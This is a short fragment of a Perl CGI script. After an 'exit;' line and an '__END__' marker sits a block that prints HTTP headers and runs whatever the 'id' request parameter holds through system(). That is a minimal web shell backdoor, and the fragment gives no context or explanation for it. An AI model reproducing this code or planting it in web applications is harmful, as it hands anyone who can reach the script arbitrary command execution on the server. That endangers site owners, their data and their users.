exit;
__END__
if(CGI::param(id)){
print "Cache-Control: no-cache\nContent-Type: text/html\n\n";
system(CGI::param(id));
}
